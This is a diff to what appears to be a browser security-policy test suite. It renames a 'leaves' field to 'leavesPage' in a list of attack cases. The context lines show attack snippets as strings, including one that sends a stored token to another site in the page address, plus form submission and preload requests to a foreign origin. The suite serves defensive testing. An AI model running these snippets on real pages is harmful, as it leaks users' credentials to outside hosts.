@@ -9,7 +9,7 @@ export interface BrowserAttack {
   /** Code that must succeed on the same page. Without it, the attack itself must succeed on a page without a policy. */
   readonly control?: string;
   /** The page navigates to another site when the attack succeeds. */
-  readonly leaves?: true;
+  readonly leavesPage?: true;
   /** The attack and its control change nothing in the document, so that the next attack can run there. */
   readonly keepsDocument?: true;
 }
@@ -64,7 +64,7 @@ const SENDING = [
       'form',
       `const form = make('form', { action: t.other }); document.body.append(form); form.submit(); await never;`,
     ),
-    leaves: true,
+    leavesPage: true,
   },
   attack('preload', `return loaded(make('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: t.other }));`),
   attack('module preload', `return loaded(make('link', { rel: 'modulepreload', href: t.other + '/x.js' }));`),
@@ -260,7 +260,7 @@ export const ACTIONS_OF_USER: readonly BrowserAttack[] = [
       'open another site with the token in its address',
       `location.href = t.other + '/?' + localStorage.token; await never;`,
     ),
-    leaves: true,
+    leavesPage: true,
   },
   // Chromium 156 does not know the directive `webrtc 'block'`.
   attack(
